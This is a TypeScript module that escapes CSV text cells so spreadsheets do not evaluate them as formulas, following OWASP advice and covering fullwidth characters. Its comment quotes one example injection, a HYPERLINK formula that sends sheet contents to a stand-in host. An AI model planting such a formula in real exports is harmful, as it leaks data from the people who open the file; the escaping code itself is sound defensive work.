/**
 * Cells a spreadsheet could read as a formula. Excel, LibreOffice and Google Sheets evaluate a CSV
 * cell that starts with `=`, `+`, `-` or `@` (and some also after a tab or carriage return), so a
 * product named `=HYPERLINK("https://evil.example/?"&A1,"Bấm xem giá")` would become a live link
 * that leaks the sheet, and a phone number `+84 912 345 678` is read as a sum. OWASP's advice: put
 * a single quote in front of such a cell, and quote every cell (csv-stringify quotes where needed).
 * Fullwidth forms (＝, ＋, －, ＠), which some input methods type, are treated the same.
 *
 * Numbers stay numbers: only text is escaped.
 */

/** Leading spaces too: some importers trim them before they look. */
const FORMULA_START = /^[\s]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/u;

/** A text cell that no spreadsheet will evaluate. */
export function formulaSafe(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/** Every text cell of the rows escaped; numbers, booleans and empty cells are left as they are. */
export function formulaSafeRows<T>(rows: readonly (readonly T[])[]): T[][] {
  return rows.map((row) => row.map((cell) => (typeof cell === 'string' ? (formulaSafe(cell) as T) : cell)));
}
